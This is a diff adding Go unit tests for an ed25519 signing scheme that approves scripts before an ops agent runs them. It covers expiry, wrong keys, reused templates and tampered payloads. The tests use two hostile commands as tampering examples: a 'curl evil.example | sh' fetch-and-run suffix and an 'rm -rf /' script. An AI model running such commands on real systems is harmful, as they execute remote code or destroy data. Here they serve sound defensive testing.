@@ -0,0 +1,159 @@
+package signing
+
+import (
+	"crypto/ed25519"
+	"crypto/rand"
+	"crypto/x509"
+	"encoding/pem"
+	"errors"
+	"os"
+	"path/filepath"
+	"testing"
+	"time"
+
+	pb "github.com/BogdanDolia/ops-butler/api/proto/agent"
+)
+
+func TestVerify(t *testing.T) {
+	pub, key, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	otherPub, otherKey, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	keys := KeySet{KeyID(pub): pub}
+	now := time.Unix(1_700_000_000, 0)
+	const maxTTL = 60 * 24 * time.Hour
+	const name, script = "restart", "kubectl rollout restart deploy/$APP"
+
+	signer := &Signer{key: key, keyID: KeyID(pub), ttl: 30 * 24 * time.Hour}
+	approval := signer.Approve(name, "", script, now)
+	expiresAt := time.Unix(approval.ExpiresAt, 0)
+	changed := func(change func(*Approval)) Approval {
+		a := approval
+		a.Signature = append([]byte(nil), approval.Signature...)
+		change(&a)
+		return a
+	}
+
+	tests := []struct {
+		name        string
+		template    string
+		interpreter string
+		script      string
+		approval    Approval
+		now         time.Time
+		wantErr     error
+	}{
+		{name: "approved", template: name, script: script, approval: approval, now: now},
+		{name: "valid until just before expiry", template: name, script: script, approval: approval, now: expiresAt.Add(-time.Second)},
+		{name: "expired", template: name, script: script, approval: approval, now: expiresAt, wantErr: ErrExpired},
+		{name: "script changed after approval", template: name, script: script + "; curl evil.example | sh",
+			approval: approval, now: now, wantErr: ErrBadSignature},
+		{name: "approval copied to another template", template: "cleanup", script: script, approval: approval, now: now,
+			wantErr: ErrBadSignature},
+		{name: "other interpreter", template: name, interpreter: "python3", script: script, approval: approval, now: now,
+			wantErr: ErrBadSignature},
+		{name: "not approved", template: name, script: script, now: now, wantErr: ErrUnsigned},
+		{name: "unknown key", template: name, script: script, approval: changed(func(a *Approval) { a.KeyID = KeyID(otherPub) }),
+			now: now, wantErr: ErrUnknownKey},
+		{name: "signed by another key", template: name, script: script,
+			approval: changed(func(a *Approval) {
+				a.Signature = ed25519.Sign(otherKey, Payload(name, "", script, a.KeyID, a.ExpiresAt))
+			}),
+			now: now, wantErr: ErrBadSignature},
+		{name: "extended expiry", template: name, script: script, approval: changed(func(a *Approval) { a.ExpiresAt += 3600 }),
+			now: now, wantErr: ErrBadSignature},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := keys.Verify(tt.template, tt.interpreter, tt.script, tt.approval, tt.now, maxTTL)
+			if !errors.Is(err, tt.wantErr) {
+				t.Errorf("Verify() error = %v, want %v", err, tt.wantErr)
+			}
+		})
+	}
+
+	t.Run("expiry beyond the max TTL", func(t *testing.T) {
+		long := &Signer{key: key, keyID: KeyID(pub), ttl: 2 * maxTTL}
+		if err := keys.Verify(name, "", script, long.Approve(name, "", script, now), now, maxTTL); err == nil {
+			t.Error("Verify() accepted an approval valid for longer than the max TTL")
+		}
+	})
+
+	t.Run("request carrying the approval", func(t *testing.T) {
+		req := &pb.ExecuteTaskRequest{
+			TaskId:       "42",
+			TemplateName: name,
+			Script:       script,
+			Params:       map[string]string{"APP": "web"},
+			KeyId:        approval.KeyID,
+			ExpiresAt:    approval.ExpiresAt,
+			Signature:    approval.Signature,
+		}
+		if err := keys.VerifyRequest(req, now, maxTTL); err != nil {
+			t.Errorf("VerifyRequest() error = %v", err)
+		}
+		req.Script = "rm -rf /"
+		if err := keys.VerifyRequest(req, now, maxTTL); !errors.Is(err, ErrBadSignature) {
+			t.Errorf("VerifyRequest() of a changed script error = %v, want %v", err, ErrBadSignature)
+		}
+	})
+}
+
+func TestPayloadSeparatesFields(t *testing.T) {
+	a := Payload("ab", "c", "script", "key", 1)
+	b := Payload("a", "bc", "script", "key", 1)
+	if string(a) == string(b) {
+		t.Error("payload doesn't separate adjacent fields")
+	}
+}
+
+func TestLoadSignerAndKeySet(t *testing.T) {
+	pub, key, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+
+	der, err := x509.MarshalPKCS8PrivateKey(key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	keyFile := filepath.Join(dir, "key.pem")
+	if err := os.WriteFile(keyFile, pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	der, err = x509.MarshalPKIXPublicKey(pub)
+	if err != nil {
+		t.Fatal(err)
+	}
+	pubFile := filepath.Join(dir, "keys.pem")
+	if err := os.WriteFile(pubFile, pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	signer, err := LoadSigner(keyFile, time.Hour)
+	if err != nil {
+		t.Fatalf("LoadSigner() error = %v", err)
+	}
+	keys, err := LoadKeySet(pubFile)
+	if err != nil {
+		t.Fatalf("LoadKeySet() error = %v", err)
+	}
+	if _, ok := keys[signer.KeyID()]; !ok {
+		t.Fatalf("key set %v doesn't contain the signer's key %s", keys, signer.KeyID())
+	}
+
+	now := time.Now()
+	if err := keys.Verify("t", "", "true", signer.Approve("t", "", "true", now), now, time.Hour); err != nil {
+		t.Errorf("Verify() error = %v", err)
+	}
+
+	if _, err := LoadKeySet(keyFile); err == nil {
+		t.Error("LoadKeySet() accepted a file without public keys")
+	}
+}